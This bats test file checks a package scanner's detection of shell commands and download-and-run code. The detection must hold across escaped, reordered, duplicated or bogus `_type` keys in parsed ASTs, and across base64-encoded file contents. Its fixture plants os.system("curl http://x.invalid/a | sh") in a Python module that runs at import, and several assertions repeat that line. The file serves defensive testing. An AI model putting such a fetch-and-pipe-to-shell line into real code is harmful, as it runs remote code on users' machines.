#!/usr/bin/env bats
# 03d-speed3.bats: cheaper node kinds and contents in aura-analyze and aura-rewrite (issue 14):
# one shared value per `_type` kind and per small integer (lib/jsonr, lib/astwalk), base64
# contents decoded only when quoted; every hostile spelling of `_type` handled as before.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; }

# A package whose one module runs a download at import; `latin1` makes it a Latin-1 file,
# which aura-unpack passes on base64-encoded (not UTF-8) and aura-parse still parses.
make_package() {
	mkdir -p pkg/pkg
	if [ "${1:-}" = latin1 ]; then
		printf '# -*- coding: latin-1 -*-\n# caf\xe9\nimport os\nos.system("curl http://x.invalid/a | sh")\n' >pkg/pkg/__init__.py
	else
		printf '# cafe\n\nimport os\nos.system("curl http://x.invalid/a | sh")\n' >pkg/pkg/__init__.py
	fi
}

# The package's ast record as aura-parse writes it (parsed) or after aura-rewrite (rewritten).
parsed() { aura-fetch pkg | aura-unpack | aura-parse | jq -c 'select(.type == "ast")'; }
rewritten() { aura-fetch pkg | aura-unpack | aura-parse | aura-rewrite; }

# "type detection-or-message evidence" of what aura-analyze says about the lines on stdin.
said() { aura-analyze 2>/dev/null | jq -r 'select(.type == "hit" or .type == "error") | "\(.type) \(.detection // .message) \(.evidence // "-")"'; }

@test "shared values: one per node kind and per small integer; a retyped node gets its new kind; arena resets spare them" {
	# shellcheck disable=SC2046 # the flags are words
	cc -O1 $(libaura_san_flags) -std=gnu11 -D_GNU_SOURCE -Wall -Wextra -I"$AURA_ROOT/lib" -o kindvalue-check \
		"$AURA_ROOT/tests/helpers/kindvalue-check.c" "$AURA_ROOT/lib/libaura.a" $(pkg-config --libs jansson)
	run ./kindvalue-check
	assert_success
	assert_output --regexp '^[0-9]+ checks, 0 failures$'
	# As aura-rewrite runs: every value in the arena, the shared ones made during a parse.
	run ./kindvalue-check arena
	assert_success
	assert_output --regexp '^[0-9]+ checks, 0 failures$'
}

@test "analyze: a Call whose _type is escaped, or not the first key, is still a Call" {
	make_package
	rewritten | jq -c 'select(.type == "ast")' >ast.line
	run said <ast.line
	assert_line 'hit ShellCommand -'
	sed 's/"_type":"Call"/"_type":"\\u0043all"/' ast.line >escaped.line
	grep -q 'u0043all' escaped.line || fail "no Call node to spell with an escape"
	run said <escaped.line
	assert_line --partial 'hit ShellCommand '
	jq -c '.tree.body[1].value |= ({lineno: .lineno} + del(.lineno))' ast.line >order.line
	run jq -c '.tree.body[1].value | keys_unsorted[0:2]' order.line
	assert_output '["lineno","_type"]'
	run said <order.line
	assert_line --partial 'hit ShellCommand '
}

@test "analyze: a duplicate _type is the same precise error; a non-string, unknown or NUL-cut _type is no Call" {
	make_package
	rewritten | jq -c 'select(.type == "ast")' >ast.line
	sed 's/"_type":"Call",/"_type":"Call","_type":"Call",/' ast.line >dup.line
	run --separate-stderr aura-analyze <dup.line
	run jq -r 'select(.type == "error") | .message' <<<"$output"
	assert_output --regexp "^<stdin>:1: invalid JSON at column [0-9]+: duplicate object key '_type'$"
	local spelling
	for spelling in '5' '"Callz"' '"Call\\u0000"' '["Call"]' 'null'; do
		sed "s/\"_type\":\"Call\"/\"_type\":$spelling/" ast.line >odd.line
		run said <odd.line
		# The node is walked (the command in its argument is still found), never a call.
		refute_line --partial 'hit ShellCommand' || fail "_type $spelling was taken for a Call"
		assert_line --partial 'hit DownloadAndRun' || fail "_type $spelling: its children were not walked"
	done
}

@test "rewrite: hostile _type spellings resolve and fail as before; its output keeps every _type's text" {
	make_package
	parsed >ast.line
	run aura-rewrite <ast.line
	assert_success
	run jq -r '.tree.body[1].value | "\(._type) \(.func._resolved)"' <<<"$output"
	assert_output 'Call os.system'
	# Rewrite writes what it read: the escaped name comes out plain, an unknown one as it was.
	sed 's/"_type":"Call"/"_type":"\\u0043all"/' ast.line >escaped.line
	run aura-rewrite <escaped.line
	run jq -r '.tree.body[1].value | "\(._type) \(.func._resolved)"' <<<"$output"
	assert_output 'Call os.system'
	sed 's/"_type":"Call"/"_type":"Callz"/' ast.line >unknown.line
	run aura-rewrite <unknown.line
	run jq -r '.tree.body[1].value | "\(._type) \(.func._resolved)"' <<<"$output"
	assert_output 'Callz os.system'
	sed 's/"_type":"Call",/"_type":"Call","_type":"Call",/' ast.line >dup.line
	run --separate-stderr aura-rewrite <dup.line
	run jq -r 'select(.type == "error") | .message' <<<"$output"
	assert_output --regexp "invalid JSON at column [0-9]+: duplicate object key '_type'$"
}

@test "analyze: a base64 member's hit quotes its decoded source; a content that is not base64 is quoted nowhere" {
	make_package latin1
	rewritten >in.ndjson
	run jq -r 'select(.type == "file") | .content_encoding' in.ndjson
	assert_output 'base64'
	run said <in.ndjson
	assert_line 'hit ShellCommand os.system("curl http://x.invalid/a | sh")'
	assert_line 'hit DownloadAndRun "curl http://x.invalid/a | sh"'
	# A forged content: no evidence (it cannot be decoded), the hits and the stream go on.
	jq -c 'if .type == "file" then .content = "!!not base64!!" else . end' in.ndjson >forged.ndjson
	run said <forged.ndjson
	assert_line 'hit ShellCommand -'
	assert_line 'hit DownloadAndRun -'
	# The quote is of this file: a base64 member before another file's ast quotes nothing.
	jq -c 'if .type == "file" then .id = "other" else . end' in.ndjson >other.ndjson
	run said <other.ndjson
	assert_line 'hit ShellCommand -'
}
